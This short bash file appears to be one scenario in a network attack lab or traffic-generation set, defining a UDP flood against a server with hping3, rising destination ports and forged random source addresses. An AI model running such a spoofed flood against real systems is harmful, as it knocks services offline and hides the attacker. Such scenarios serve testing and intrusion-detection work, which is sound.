# shellcheck shell=bash
# about: UDP to rising ports, forged senders (hping3)
# type: attack
# kind: udp_flood
# target: server
# source: attacker
# tools: hping3
# packets: 500
play() {
	flood attacker "$SERVER_IP" -2 -p ++2000 -d 64 --rand-source
}
